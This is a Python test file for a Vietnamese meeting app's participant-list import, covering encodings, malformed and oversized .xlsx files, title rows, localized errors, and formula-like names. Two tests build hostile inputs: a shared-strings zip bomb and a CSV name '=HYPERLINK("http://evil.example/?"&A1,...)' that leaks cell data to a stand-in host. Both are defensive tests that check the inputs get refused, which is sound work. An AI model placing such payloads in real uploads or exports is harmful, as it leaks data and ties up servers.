"""Participant lists as a Vietnamese secretariat really sends them, and crafted ones.

Each test names the defect it guards: Excel's "Unicode Text" export (UTF-16) read as garbage and
refused as "no name column"; a UTF-8 BOM before bytes that are not UTF-8 answered with a 500; an
.xlsx that declares a huge sheet (``A1:XFD…``) padded to 16,384 columns a row (1.3 GB from 5 KB);
one whose declared size is too small silently dropping its people; a shared-strings bomb parsed
for a minute; a title row above the header ("DANH SÁCH ĐẠI BIỂU") refused, and row numbers that
no longer match the spreadsheet once it has blank lines; refusals of a whole file shown in
English on the Vietnamese page.
"""
from __future__ import annotations

import io
import re
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
from sqlalchemy import func, select

from meetings.accounts.models import User
from meetings.bodies.import_rows import read_sheet
from meetings.bodies.models import Participant
from meetings.core.extensions import db

ROOT = Path(__file__).resolve().parent.parent
HEADER = ["Họ và tên", "Tên đăng nhập", "Thư điện tử", "Đơn vị"]
PEOPLE = [["Nguyễn Văn An", "an.nguyen", "an.nguyen@ubnd.vn", "Sở Tài chính"],
          ["Trần Thị Bích Ngọc", "ngoc.tran", "ngoc.tran@ubnd.vn", "Sở Xây dựng"]]


def _people(sheet) -> list[tuple[int, str, str | None]]:
    return [(r.number, r.full_name, r.username) for r in sheet.rows]


def _count(model) -> int:
    db.session.remove()
    return db.session.scalar(select(func.count()).select_from(model))


def _upload(client, meeting_id, data, name, mode="dry_run"):
    return client.post(f"/api/v1/meetings/{meeting_id}/participants/import", content_type="multipart/form-data",
                       data={"file": (io.BytesIO(data), name), "mode": mode})


def _xlsx(rows, header=HEADER) -> bytes:
    book = openpyxl.Workbook()
    for row in [header, *rows]:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewrite(data: bytes, changes: dict[str, bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    """The workbook with some parts replaced (a function of the old bytes) and some added."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in src.infolist():
            part = src.read(info.filename)
            archive.writestr(info.filename, changes[info.filename](part) if info.filename in changes else part)
        for name, part in (extra or {}).items():
            archive.writestr(name, part)
    return out.getvalue()


def _dimension(ref: str):
    return lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>'.encode(), xml)


# --------------------------------------------------------------------------- encodings

def test_excel_unicode_text_utf16_is_read(as_user, world):
    """Excel's "Unicode Text (*.txt)": UTF-16 LE with its BOM, cells between tabs."""
    text = "\r\n".join("\t".join(row) for row in [HEADER, *PEOPLE]) + "\r\n"
    for data in (text.encode("utf-16"), b"\xfe\xff" + text.encode("utf-16-be"), text.encode("utf-16-le")):
        sheet = read_sheet(data, "danh-sach.txt")
        assert sheet.all_errors() == []
        assert _people(sheet) == [(2, "Nguyễn Văn An", "an.nguyen"), (3, "Trần Thị Bích Ngọc", "ngoc.tran")]
    r = _upload(as_user("secretary"), world.meeting.id, text.encode("utf-16"), "danh-sach.csv", mode="apply")
    assert r.status_code == 200, r.get_json()
    assert r.get_json()["counts"]["participants_added"] == 2


def test_a_bom_before_bytes_that_are_not_utf8_is_a_clear_refusal(as_user, world):
    before = (_count(User), _count(Participant))
    r = _upload(as_user("secretary"), world.meeting.id, b"\xef\xbb\xbfH\xe4 v\xe0 t\xean\n\xff\xfe\n",
                "danh-sach.csv", mode="apply")
    assert r.status_code == 422, r.data[:300]
    assert r.get_json()["error"]["code"] == "unreadable_file"
    assert (_count(User), _count(Participant)) == before


# --------------------------------------------------------------------------- crafted workbooks

def test_a_declared_huge_sheet_is_not_padded_to_it():
    """5 KB that declare A1:XFD2001: openpyxl padded each row to 16,384 cells (260 MB for 2,000 rows)."""
    rows = [[f"Người {i}", f"u{i}", "", ""] for i in range(2000)]
    data = _rewrite(_xlsx(rows), {"xl/worksheets/sheet1.xml": _dimension("A1:XFD2001")})
    tracemalloc.start()
    try:
        sheet = read_sheet(data, "ds.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(sheet.rows) == 2000 and sheet.all_errors() == []
    assert peak < 60 * 1024 * 1024, f"{peak // (1024 * 1024)} MB to read 2,000 rows"


def test_a_sheet_that_declares_too_small_a_size_keeps_all_its_people():
    """Some exporters write a stale <dimension>: openpyxl stopped there and the rest vanished unsaid."""
    data = _rewrite(_xlsx(PEOPLE), {"xl/worksheets/sheet1.xml": _dimension("A1:A1")})
    sheet = read_sheet(data, "ds.xlsx")
    assert sheet.all_errors() == []
    assert _people(sheet) == [(2, "Nguyễn Văn An", "an.nguyen"), (3, "Trần Thị Bích Ngọc", "ngoc.tran")]


def test_a_shared_strings_bomb_is_refused_before_it_is_parsed(as_user, world):
    """240 KB that unpack to 100 MB of one-letter strings kept a worker busy for a minute."""
    strings = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main">' + b"<si><t>a</t></si>" * 1_500_000 + b"</sst>")
    types = b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-' \
            b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    rel = b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/' \
          b'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    data = _rewrite(_xlsx(PEOPLE), {"[Content_Types].xml": lambda x: x.replace(b"</Types>", types),
                                    "xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", rel)},
                    {"xl/sharedStrings.xml": strings})
    before = (_count(User), _count(Participant))
    r = _upload(as_user("secretary"), world.meeting.id, data, "ds.xlsx", mode="apply")
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "zip_bomb", r.get_json()
    assert (_count(User), _count(Participant)) == before


# --------------------------------------------------------------------------- the rows as Excel shows them

def test_title_rows_and_blank_lines_keep_the_spreadsheet_s_row_numbers():
    """A Vietnamese list opens with its title; errors must name the row the secretary sees."""
    rows = [["DANH SÁCH ĐẠI BIỂU DỰ KỲ HỌP THỨ 12"], [], ["STT", *HEADER], ["1", *PEOPLE[0]], [],
            ["2", "Lê Hoàng Đức", "duc", "duc@@ubnd", "Sở Nội vụ"]]
    for data, name in ((_xlsx(rows[1:], rows[0]), "ds.xlsx"),
                       ("\r\n".join(";".join(r) for r in rows).encode("utf-8-sig"), "ds.csv")):
        sheet = read_sheet(data, name)
        assert [(e.row, e.column, e.code) for e in sheet.all_errors()] == [(6, "email", "bad_email")], name
        assert _people(sheet) == [(4, "Nguyễn Văn An", "an.nguyen"), (6, "Lê Hoàng Đức", "duc")], name
        assert sheet.ignored_columns == ["STT"]


# --------------------------------------------------------------------------- the page's language

def test_every_refusal_of_an_import_has_vietnamese_words_on_the_page():
    """A whole-file refusal (empty, too large, unreadable, zip bomb, changed since the preview …)
    was toasted in English on the Vietnamese preparation page."""
    sources = "".join((ROOT / "meetings/bodies" / f).read_text() for f in ("import_rows.py", "imports.py"))
    raised = set(re.findall(r'code="([a-z_]+)"', sources)) | set(re.findall(r'fail\([^,]+, "([a-z_]+)"', sources))
    raised |= {f"duplicate_{c}" for c in ("username", "email")}
    raised.discard("duplicate_{column}")
    script = (ROOT / "static/js/console/import.js").read_text()
    vi = script.split("vi: {", 1)[1].split("\n  en: {", 1)[0]
    words = set(re.findall(r"^\s*([a-z_]+): \"", vi, re.M)) | set(re.findall(r"[ {]([a-z_]+): \"", vi))
    assert {"empty_file", "file_changed", "zip_bomb", "unreadable_file"} <= raised  # the scan found them
    assert sorted(raised - words) == []


def test_a_name_that_a_spreadsheet_would_run_is_refused(as_user, world):
    """"=HYPERLINK(…)" as a name reached the archive's attendance.csv and every later export."""
    rows = [['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "evil", "", "Sở Tài chính"],
            ["Nguyễn Văn An", "an.nguyen", "", "@SUM(1+1)"], ["Trần Thị Bích Ngọc", "ngoc.tran", "", "+Ban"],
            ["Lê Văn Cường", "cuong.le", "", "-"], ["Phạm Thị Dung", "dung.pham", "", "- Văn phòng"]]
    data = "\r\n".join(",".join(f'"{c}"' if "," in c or '"' in c else c for c in [
        c.replace('"', '""') for c in r]) for r in [HEADER, *rows]).encode("utf-8-sig")
    before = (_count(User), _count(Participant))
    r = _upload(as_user("secretary"), world.meeting.id, data, "ds.csv", mode="apply")
    assert r.status_code == 422, r.get_json()
    errors = {(e["row"], e["column"], e["code"]) for e in r.get_json()["error"]["details"]["errors"]}
    assert errors == {(2, "full_name", "formula_like"), (3, "unit", "formula_like"), (4, "unit", "formula_like")}
    assert (_count(User), _count(Participant)) == before
